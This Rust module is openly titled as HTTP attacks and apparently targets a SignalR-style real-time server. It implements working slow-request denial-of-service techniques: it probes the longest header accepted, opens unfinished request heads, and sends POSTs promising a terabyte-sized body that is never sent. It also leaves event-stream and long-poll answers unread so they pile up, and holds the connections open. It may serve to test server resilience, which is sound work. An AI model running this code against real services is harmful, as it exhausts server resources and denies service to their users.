//! Attacks by HTTP requests: heads and bodies that do not end, answers that are not read.

use anyhow::{Result, bail};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{Duration, sleep};

use super::Held;
use super::inputs::{NUMBER, list_call, shove, shove_all, slow_call, text_call};
use crate::http::{Door, exchange};

/// The length of a body that does not end.
const PROMISED: u64 = 1 << 40;
/// No server takes a longer one.
const ENDLESS: usize = 4 * 1024 * 1024;
/// Heads are tried in steps of this.
const STEP: usize = 1024;

const HANDSHAKE: &str = "{\"protocol\":\"json\",\"version\":1}\u{1e}";

fn begin(door: &Door) -> String {
    let request = door.request("GET", "", "X-Long: ", "");
    request.trim_end().to_owned()
}

/// How long a head may be before the server answers or ends the connection.
pub(super) async fn longest_head(door: &Door) -> Result<usize> {
    let mut stream = door.connect().await?;
    let mut sent = begin(door).into_bytes();
    stream.write_all(&sent).await?;
    while sent.len() < ENDLESS {
        stream.write_all(&[b'x'; STEP]).await?;
        sent.extend_from_slice(&[b'x'; STEP]);
        // The server looks at every piece before the next is sent.
        sleep(Duration::from_millis(5)).await;
        if is_answered(&stream) {
            return Ok(sent.len() - STEP);
        }
    }
    bail!("the server takes any head")
}

fn is_answered(stream: &TcpStream) -> bool {
    let refused = |error: &std::io::Error| error.kind() != std::io::ErrorKind::WouldBlock;
    stream.try_read(&mut [0; 16]).as_ref().map_or_else(refused, |_| true)
}

pub(super) async fn head(door: &Door, length: usize) -> Result<Held> {
    let mut stream = door.connect().await?;
    let mut sent = begin(door).into_bytes();
    sent.resize(length, b'x');
    stream.write_all(&sent).await?;
    Ok(Held(vec![stream]))
}

pub(super) async fn body(door: &Door) -> Result<Held> {
    let (events, id) = open_events(door).await?;
    let mut post = begin_post(door, &id).await?;
    shove(&mut post, slow_call().as_bytes()).await?;
    shove_all(&mut post, text_call("Echo", "").as_bytes()).await?;
    Ok(Held(vec![events, post]))
}

pub(super) async fn events(door: &Door) -> Result<Held> {
    let (events, id) = open_events(door).await?;
    let mut post = begin_post(door, &id).await?;
    shove_all(&mut post, list_call("EchoJson", "", NUMBER).as_bytes()).await?;
    Ok(Held(vec![events, post]))
}

pub(super) async fn polls(door: &Door) -> Result<Held> {
    let id = door.negotiate().await?;
    let mut polls = door.connect_narrowly().await?;
    let poll = door.request("GET", &format!("?id={id}"), "", "");
    exchange(&mut polls, &poll).await?;
    let mut post = begin_post(door, &id).await?;
    shove(&mut post, HANDSHAKE.as_bytes()).await?;
    exchange(&mut polls, &poll).await?;
    let calls = list_call("EchoJson", "", NUMBER);
    shove_all(&mut post, calls.as_bytes()).await?;
    // What waits is now an answer that is not read; there is room for more to wait.
    polls.write_all(poll.as_bytes()).await?;
    shove_all(&mut post, calls.as_bytes()).await?;
    Ok(Held(vec![polls, post]))
}

/// An event stream whose handshake is done, and its connection's token.
async fn open_events(door: &Door) -> Result<(TcpStream, String)> {
    let id = door.negotiate().await?;
    let mut events = door.connect_narrowly().await?;
    let request = door.request("GET", &format!("?id={id}"), "Accept: text/event-stream\r\n", "");
    exchange(&mut events, &request).await?;
    let mut post = door.connect().await?;
    let request = door.request("POST", &format!("?id={id}"), "Connection: close\r\n", HANDSHAKE);
    exchange(&mut post, &request).await?;
    let mut answer = [0; 5];
    events.read_exact(&mut answer).await?;
    Ok((events, id))
}

/// A POST that promises more than it will send.
async fn begin_post(door: &Door, id: &str) -> Result<TcpStream> {
    let mut post = door.connect_narrowly().await?;
    let request = door.request("POST", &format!("?id={id}"), "", "");
    let request = request.replace("Content-Length: 0", &format!("Content-Length: {PROMISED}"));
    post.write_all(request.as_bytes()).await?;
    Ok(post)
}
